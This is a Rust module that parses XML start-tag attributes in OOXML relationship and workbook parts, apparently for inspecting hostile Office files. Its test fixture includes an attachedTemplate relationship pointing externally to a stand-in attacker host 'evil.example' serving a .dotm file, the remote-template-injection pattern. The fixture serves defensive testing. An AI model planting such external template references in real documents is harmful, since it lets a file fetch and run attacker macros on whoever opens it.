//! A small, tolerant scanner for the attributes of XML start tags. Enough for OOXML
//! relationship parts (ECMA-376 Part 2, 9.3) and `workbook.xml` `<sheet>` elements; not a
//! full XML parser: no DTDs, no namespaces resolution (prefixes are dropped), no validation.
//! Malformed input yields fewer elements, never a panic.

/// Decode a part's bytes: UTF-16 with a BOM, else UTF-8 (lossy).
pub fn text(bytes: &[u8]) -> String {
    if let Some(rest) = bytes.strip_prefix(&[0xFF, 0xFE]) {
        let u: Vec<u16> = rest
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes(crate::bytes::pad::<2>(c)))
            .collect();
        return String::from_utf16_lossy(&u);
    }
    if let Some(rest) = bytes.strip_prefix(&[0xFE, 0xFF]) {
        let u: Vec<u16> = rest
            .chunks_exact(2)
            .map(|c| u16::from_be_bytes(crate::bytes::pad::<2>(c)))
            .collect();
        return String::from_utf16_lossy(&u);
    }
    let b = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap_or(bytes);
    String::from_utf8_lossy(b).into_owned()
}

/// The attributes of every start tag whose local name (prefix dropped) is `local`,
/// compared case-sensitively as XML is. Attribute names are returned without their prefix.
pub fn elements(xml: &str, local: &str) -> Vec<Vec<(String, String)>> {
    let mut out = Vec::new();
    let mut rest = xml;
    while let Some(lt) = rest.find('<') {
        rest = rest.get(lt.saturating_add(1)..).unwrap_or_default();
        // Tag name up to whitespace, '>' or '/'.
        let end = rest
            .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let name = rest.get(..end).unwrap_or_default();
        let lname = name.rsplit(':').next().unwrap_or(name);
        if lname != local {
            continue;
        }
        rest = rest.get(end..).unwrap_or_default();
        let (attrs, consumed) = attributes(rest);
        rest = rest.get(consumed..).unwrap_or_default();
        out.push(attrs);
    }
    out
}

/// Parse `name="value"` pairs up to the end of the tag. Returns the pairs and bytes consumed.
fn attributes(s: &str) -> (Vec<(String, String)>, usize) {
    let mut attrs = Vec::new();
    let b = s.as_bytes();
    let mut i = 0usize;
    loop {
        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i = i.saturating_add(1);
        }
        if matches!(b.get(i), None | Some(b'>' | b'<')) {
            return (attrs, i.min(b.len()));
        }
        if b.get(i) == Some(&b'/') {
            i = i.saturating_add(1);
            continue;
        }
        let ns = i;
        while b
            .get(i)
            .is_some_and(|c| !matches!(c, b'=' | b'>' | b'<' | b'/') && !c.is_ascii_whitespace())
        {
            i = i.saturating_add(1);
        }
        let name = s.get(ns..i).unwrap_or_default();
        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i = i.saturating_add(1);
        }
        if b.get(i) != Some(&b'=') {
            // An attribute without a value: skip it.
            if name.is_empty() {
                i = i.saturating_add(1);
            }
            continue;
        }
        i = i.saturating_add(1);
        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i = i.saturating_add(1);
        }
        let Some(&q) = b.get(i) else {
            return (attrs, b.len());
        };
        let value;
        if q == b'"' || q == b'\'' {
            let vs = i.saturating_add(1);
            let ve = s
                .get(vs..)
                .unwrap_or_default()
                .find(q as char)
                .map(|p| vs.saturating_add(p))
                .unwrap_or(b.len());
            value = s.get(vs..ve).unwrap_or_default();
            i = ve.saturating_add(1).min(b.len());
        } else {
            let vs = i;
            while b
                .get(i)
                .is_some_and(|c| !c.is_ascii_whitespace() && *c != b'>')
            {
                i = i.saturating_add(1);
            }
            value = s.get(vs..i).unwrap_or_default();
        }
        let lname = name.rsplit(':').next().unwrap_or(name).to_string();
        attrs.push((lname, unescape(value)));
    }
}

/// Look an attribute up by local name (case-insensitive: producers of hostile files are not
/// careful, and Office itself is lenient).
pub fn attr<'a>(attrs: &'a [(String, String)], name: &str) -> Option<&'a str> {
    attrs
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(name))
        .map(|(_, v)| v.as_str())
}

/// Replace the predefined entities and character references.
pub fn unescape(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(rest.get(..p).unwrap_or_default());
        rest = rest.get(p..).unwrap_or_default();
        let Some(semi) = rest.find(';').filter(|&i| i <= 12) else {
            out.push('&');
            rest = rest.get(1..).unwrap_or_default();
            continue;
        };
        let ent = rest.get(1..semi).unwrap_or_default();
        let rep = match ent {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            _ => {
                let n = if let Some(h) = ent.strip_prefix("#x").or_else(|| ent.strip_prefix("#X")) {
                    u32::from_str_radix(h, 16).ok()
                } else if let Some(d) = ent.strip_prefix('#') {
                    d.parse::<u32>().ok()
                } else {
                    None
                };
                n.and_then(char::from_u32)
            }
        };
        match rep {
            Some(c) => {
                out.push(c);
                rest = rest.get(semi.saturating_add(1)..).unwrap_or_default();
            }
            None => {
                out.push('&');
                rest = rest.get(1..).unwrap_or_default();
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relationship_attributes() {
        let x = r#"<?xml version="1.0"?><Relationships xmlns="x"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm?a=1&amp;b=2" TargetMode="External"/><Relationship Id='rId2' Type="t2" Target="styles.xml"></Relationship></Relationships>"#;
        let e = elements(x, "Relationship");
        assert_eq!(e.len(), 2);
        assert_eq!(
            attr(&e[0], "Target"),
            Some("http://evil.example/t.dotm?a=1&b=2")
        );
        assert_eq!(attr(&e[0], "targetmode"), Some("External"));
        assert_eq!(attr(&e[1], "Id"), Some("rId2"));
        assert_eq!(attr(&e[1], "TargetMode"), None);
    }

    #[test]
    fn prefixes_and_garbage() {
        let x = r#"<x:sheet name="M&#x30DE;" r:id="rId3" state=veryHidden/><sheet name="a"#;
        let e = elements(x, "sheet");
        assert_eq!(e.len(), 2);
        assert_eq!(attr(&e[0], "name"), Some("Mマ"));
        assert_eq!(attr(&e[0], "id"), Some("rId3"));
        assert_eq!(attr(&e[0], "state"), Some("veryHidden/"));
        // Unterminated: no panic.
        assert_eq!(attr(&e[1], "name"), Some("a"));
        assert!(elements("<<<<=\"'", "x").is_empty());
        assert_eq!(unescape("a&b&zz;&#99999999;"), "a&b&zz;&#99999999;");
    }
}
